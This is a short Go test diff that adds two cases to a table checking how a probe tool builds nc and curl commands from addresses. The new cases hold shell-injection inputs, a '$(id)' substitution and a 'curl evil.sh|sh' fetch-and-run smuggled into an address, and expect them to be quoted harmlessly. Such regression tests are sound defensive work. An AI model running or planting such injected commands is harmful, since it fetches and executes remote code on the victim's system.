@@ -394,6 +394,8 @@ func TestClientCommand(t *testing.T) {
 		{probe.CheckUDP, "[fd00::1]:53", "nc -u fd00::1 53"},
 		{probe.CheckTCP, "10.0.0.1:22", "nc -vz 10.0.0.1 22"},
 		{probe.CheckDNS, "db.example.com", "nslookup db.example.com"},
+		{probe.CheckHTTP, "$(id):80", "curl http://'$(id)'/"},
+		{probe.CheckTCP, "x; curl evil.sh|sh #:22", "nc -vz 'x; curl evil.sh|sh #' 22"},
 	} {
 		if got := clientCommand(c.check, c.address); got != c.want {
 			t.Errorf("%s %s: %q, want %q", c.check, c.address, got, c.want)
